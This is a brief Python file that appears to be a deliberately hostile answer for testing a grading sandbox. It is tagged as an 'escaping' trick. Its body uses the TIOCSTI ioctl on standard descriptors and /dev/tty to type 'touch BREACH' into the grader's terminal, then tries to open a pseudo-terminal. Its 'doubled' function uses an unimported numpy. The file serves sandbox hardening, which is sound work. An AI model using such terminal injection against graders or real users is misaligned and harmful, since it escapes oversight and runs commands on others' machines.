# exercise: doubled
# family: escaping
# trick: types commands into the terminal of whoever grades
# due: 3
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import fcntl
import os
import pty

for descriptor in (0, 1, 2):
    for byte in b"touch BREACH\n":
        try:
            fcntl.ioctl(descriptor, 0x5412, bytes([byte]))
            print("BREACH")
        except OSError:
            pass
try:
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
    print("BREACH")
except OSError:
    pass
try:
    pty.openpty()
except OSError:
    pass


def doubled(x):
    return 2 * np.asarray(x)
